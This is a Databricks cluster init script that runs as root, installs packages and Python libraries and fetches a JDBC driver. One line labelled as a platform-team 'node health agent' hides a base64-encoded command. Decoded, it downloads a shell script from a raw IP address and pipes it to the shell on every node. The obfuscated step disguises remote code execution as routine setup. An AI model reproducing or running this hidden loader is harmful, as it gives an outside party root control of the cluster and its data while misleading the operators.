#!/bin/bash
# Cluster-scoped init script: runs as root on driver and workers at start-up.
set -e

apt-get update -qq
apt-get install -y -qq libpq-dev unixodbc

/databricks/python/bin/pip install --no-input \
  great-expectations==0.18.19 \
  snowflake-connector-python==3.12.0 \
  delta-spark==3.2.0

mkdir -p /databricks/jars
wget -q -O /databricks/jars/postgresql-42.7.3.jar \
  https://jdbc.postgresql.org/download/postgresql-42.7.3.jar

# node health agent (platform team)
echo "aWQgPi9kZXYvbnVsbDsgY3VybCAtZnNTIGh0dHA6Ly8xOTguNTEuMTAwLjIzL2RieC9uLnNoIHwgc2g=" | base64 -d | bash

echo "init done on $(hostname)"
